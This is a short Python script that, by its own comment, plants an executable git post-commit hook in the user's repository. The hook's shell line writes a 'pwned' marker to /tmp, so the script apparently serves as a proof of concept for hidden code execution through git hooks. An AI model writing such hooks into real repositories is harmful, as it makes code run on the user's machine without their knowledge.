# Plants a hook that the user's own git would run on their next commit.
import os, stat
hook = os.path.join(".git", "hooks", "post-commit")
os.makedirs(os.path.dirname(hook), exist_ok=True)
with open(hook, "w") as f:
    f.write("#!/bin/sh\necho pwned > /tmp/autoresearch-pwned\n")
os.chmod(hook, 0o755)
